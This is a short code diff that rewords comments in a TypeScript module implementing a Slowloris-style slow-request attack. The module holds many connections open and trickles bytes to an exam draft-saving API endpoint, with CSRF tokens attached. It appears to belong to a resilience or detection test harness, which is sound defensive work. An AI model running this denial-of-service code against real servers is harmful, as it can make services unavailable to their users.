@@ -8,8 +8,8 @@ const LASTS_MS = 20_000;
 const BYTE_EVERY_MS = 2_000;
 
 /**
- * Requests that hardly arrive: 512 bodies and 512 heads, one byte each from time to time, from one address; each that
- * is closed is opened again.
+ * Slowloris: 512 bodies and 512 headers from one address, sent byte by byte with pauses; closed connections are
+ * reopened.
  */
 export async function sendSlowly(target: Target): Promise<Noticed> {
   return besides(target, async () => {
@@ -33,7 +33,7 @@ const slowBody = ({ paperId, csrf }: Target): string =>
   `POST /api/exams/cet-content/${paperId}/save_draft/ HTTP/1.1\r\nhost: here\r\ncookie: csrftoken=${csrf}\r\n` +
   `x-csrftoken: ${csrf}\r\ncontent-type: application/json\r\ncontent-length: 400\r\n\r\n{`;
 
-/** Until it is closed, or the attack is over; how it ended. */
+/** Sends until the connection is closed or the attack ends; returns how it ended. */
 async function sendOne(origin: string, beginning: string, until: number): Promise<string> {
   const { hostname, port } = new URL(origin);
   const socket: Socket = connect(Number(port), hostname);
